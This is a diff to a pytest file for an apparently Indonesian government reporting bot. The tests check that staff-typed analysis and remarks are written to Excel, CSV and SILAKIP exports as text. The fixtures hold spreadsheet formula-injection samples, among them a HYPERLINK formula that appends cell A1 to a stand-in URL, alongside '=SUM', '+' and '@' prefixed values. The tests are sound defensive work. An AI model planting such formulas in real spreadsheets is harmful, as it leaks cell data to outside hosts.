@@ -21,26 +21,32 @@ from xml.etree import ElementTree
 
 import pytest
 from openpyxl.workbook.workbook import Workbook
+from openpyxl.worksheet.worksheet import Worksheet
 
 from bot.clock import FixedClock
+from bot.documents.cells import write_cell
 from bot.documents.indicator_sheet import read_indicator_rows, write_template
 from bot.documents.workbook import layout
+from bot.documents.workbook.format_sheet import HEADER_ROW, PENGHAMBAT_COL, REALISASI_COL
+from bot.emulator.samples import pdf
 from bot.sop import Role
-from bot.workflow import approvals, files, filling, master, rounds, verification
+from bot.workflow import approvals, bukti, files, filling, master, rounds, upload, verification
 from bot.workflow.context import Ctx
 from storage import queries
 from storage.models import Round
 from tests.conftest import (
+    DAFDUK,
     KABID_CAPIL,
     KABID_DAFDUK,
     KASUBAG,
     KEPALA,
     OPERATOR,
     SEKRETARIS,
+    Office,
     enrol,
     indicator,
 )
-from tests.workbooks import format_file, opened
+from tests.workbooks import edit, format_file, opened
 
 _MAIN = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
 LINK = '=HYPERLINK("http://x/?"&A1,"Klik")'
@@ -88,6 +94,11 @@ KETERANGAN = {
     "@Jumlah akta": "@petugas",
     "+Cakupan KIA": "+62 812 tidak aktif",
 }
+ANALISIS = {"penghambat": "=SUM(B2)", "upaya": "+jemput bola", "pendorong": "@tim lapangan"}
+"""The analysis of every indicator (issue 14): printed in the format, the compiled workbook and
+the SILAKIP export like any text a person typed."""
+BUKTI = {name: f"{name}.pdf" for name in VALUES}
+"""An evidence file per indicator, named as the indicator: the Bukti Dukung sheet lists it."""
 REASONS = ("=ulangi angka", "-periksa lagi")
 MASTER_TEXTS = {
     text for row in MASTER for text in (row.bidang, row.sasaran, row.indikator, row.satuan)
@@ -128,10 +139,15 @@ def _fill_and_send(ctx: Ctx, round_id: int, bidang: str) -> None:
             for item in queries.round_indicators(session, round_id)
             if item.indicator.bidang.nama == bidang
         }
+        with_files = {row.indicator_id for row in queries.bukti_rows(session, round_id=round_id)}
     for nama, indicator_id in ids.items():
         fields = {"actor": kabid, "submission_id": submission_id, "indicator_id": indicator_id}
         filling.save_value(ctx, value=Decimal(VALUES[nama]), **fields)  # type: ignore[arg-type]
         filling.save_keterangan(ctx, text=KETERANGAN[nama], **fields)  # type: ignore[arg-type]
+        for kind, text in ANALISIS.items():
+            filling.save_analisis(ctx, kind=kind, text=text, **fields)  # type: ignore[arg-type]
+        if indicator_id not in with_files:
+            bukti.attach(ctx, content=pdf(nama), filename=BUKTI[nama], fallback="foto", **fields)  # type: ignore[arg-type]
     _, version = _submission(ctx, round_id, bidang)
     filling.send(ctx, actor=kabid, submission_id=submission_id, expected_version=version)
 
@@ -226,6 +242,8 @@ def assert_written_as_typed(content: bytes, typed: Iterable[str]) -> None:
 PERSON_TEXTS = (
     MASTER_TEXTS
     | set(KETERANGAN.values())
+    | set(ANALISIS.values())
+    | set(BUKTI.values())
     | {KOP["alamat"], KOP["kepala_nama"], KOP["kepala_pangkat"]}
 )
 
@@ -275,13 +293,17 @@ def test_format_file_writes_person_text_as_text(hostile: Hostile, bidang: str) -
     content = format_file(hostile.ctx, submission_id)
     own = [row for row in MASTER if row.bidang == bidang]
     typed = {t for row in own for t in (row.sasaran, row.indikator, row.satuan)}
-    assert_written_as_typed(content, typed | {KETERANGAN[row.indikator] for row in own})
+    assert_written_as_typed(
+        content, typed | {KETERANGAN[row.indikator] for row in own} | set(ANALISIS.values())
+    )
 
 
 def test_silakip_workbook_writes_person_text_as_text(hostile: Hostile) -> None:
     rendered = files.render(hostile.ctx, {"kind": "silakip", "round_id": hostile.round_id})
     assert rendered is not None
-    assert_written_as_typed(rendered[1], MASTER_TEXTS | set(KETERANGAN.values()))
+    assert_written_as_typed(
+        rendered[1], MASTER_TEXTS | set(KETERANGAN.values()) | set(ANALISIS.values())
+    )
 
 
 def test_silakip_csv_quotes_person_text_and_keeps_numbers(hostile: Hostile) -> None:
@@ -302,11 +324,12 @@ def test_silakip_csv_quotes_person_text_and_keeps_numbers(hostile: Hostile) -> N
         "-3,5",
         "-3,68",
         "'-turun karena pindah datang",
+        *("'" + text for text in ANALISIS.values()),
     ]
     for row in MASTER:
         cells = by_indikator["'" + row.indikator]
         assert cells[1:5] == ["'" + t for t in (row.bidang, row.sasaran, row.indikator, row.satuan)]
-        assert cells[-1] == "'" + KETERANGAN[row.indikator]
+        assert cells[8] == "'" + KETERANGAN[row.indikator]
 
 
 def test_indicator_template_writes_person_text_as_text(tmp_path: Path) -> None:
@@ -329,3 +352,28 @@ def test_one_writer_keeps_any_text_a_string(text: str) -> None:
     read = opened(content)["Uji"]
     assert (read["A1"].value, read["A3"].value) == (text, text)
     assert read["A1"].data_type == "s"
+
+
+def test_formula_like_analysis_sent_back_in_the_format_is_saved_and_printed_as_text(
+    office: Office,
+) -> None:
+    """Issue 14: a Kabid writes the analysis in Excel as text starting with "="; it is saved as
+    typed, and every file the bot writes of it keeps it text."""
+    round_ = office.walk(at_step=4)
+    submission = office.submission(round_.id, DAFDUK)
+    typed = (LINK, ANALISIS["upaya"], ANALISIS["pendorong"])
+
+    def type_in(sheet: Worksheet) -> None:
+        for nomor, value in ((1, 90), (2, 7), (3, 5)):
+            sheet.cell(HEADER_ROW + nomor, REALISASI_COL, value)
+        for offset, text in enumerate(typed):
+            write_cell(sheet, HEADER_ROW + 1, PENGHAMBAT_COL + offset, text)
+
+    content = edit(format_file(office.ctx, submission.id), type_in)
+    upload.apply_upload(office.ctx, actor=KABID_DAFDUK, content=content, filename="f.xlsx")
+    first = office.items(submission)[0]
+    assert (first.faktor_penghambat, first.upaya, first.faktor_pendorong) == typed
+    assert_written_as_typed(format_file(office.ctx, submission.id), typed)
+    rendered = files.render(office.ctx, {"kind": "rekap", "round_id": round_.id})
+    assert rendered is not None
+    assert_written_as_typed(rendered[1], typed)
